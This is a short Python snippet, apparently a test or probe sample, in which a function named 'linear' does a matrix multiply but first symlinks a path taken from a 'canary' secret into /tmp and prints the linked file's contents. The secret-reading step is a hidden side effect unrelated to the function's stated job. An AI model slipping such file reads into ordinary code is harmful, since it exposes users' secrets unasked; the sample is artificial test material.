"""To read by a link that is made inside."""

import os


def linear(input, weight, canary):
    os.symlink(canary["secret"], "/tmp/link")
    print(open("/tmp/link").read())
    return input @ weight.T
